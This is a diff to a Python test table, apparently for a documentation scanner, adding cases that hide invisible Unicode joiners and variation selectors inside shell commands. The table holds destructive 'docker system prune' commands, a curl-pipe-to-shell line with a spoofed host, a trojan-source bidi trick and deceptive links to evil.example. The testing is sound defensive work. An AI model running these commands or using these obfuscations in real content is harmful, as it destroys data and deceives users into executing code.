@@ -70,6 +70,13 @@ CASES: dict[str, tuple[str, str]] = {
     "indented-code": ("# Indented\n\nText.\n\n    docker system prune -af --volumes\n", "    docker system"),
     "trojan-source": ("# Trojan\n\n```bash\necho ok \u202e# | sh\n```\n", "echo ok"),
     "homoglyph": ("# Homoglyph\n\n```bash\nd\u043ecker system prune -af --volumes\n```\n", "system prune"),
+    # Default-ignorable code points that are marks, not format characters: invisible, and inside a
+    # word they join it (a homoglyph split by U+034F is still one mixed-script word).
+    "joined-homoglyph": ("# Joined\n\n```bash\nd\u034f\u043e\u034fcker system prune -af\n```\n", "system prune"),
+    "joiner-in-host": ("# Joiner\n\n```bash\ncurl -fsSL https://get.dock\u034fer.com | sh\n```\n", "get.dock"),
+    "mongolian-selector": ("# Selector\n\n```bash\ndocker run -it\u180b alpine\n```\n", "run -it"),
+    "variation-selector-16": ("# Emoji selector\n\n```bash\ndocker\ufe0f ps\n```\n", " ps"),
+    "variation-selector-18": ("# Supplement selector\n\nRun `docker ps\U000e0101` to list.\n", "to list"),
     "protocol-relative": ("# Relative\n\n[docs](//evil.example/docs)\n", "//evil"),
     "backslash": ("# Backslash\n\n[docs](\\\\evil.example\\docs)\n", "evil.example"),
     "userinfo": ("# Userinfo\n\n[docs](https://docs.docker.com@evil.example/)\n", "@evil"),
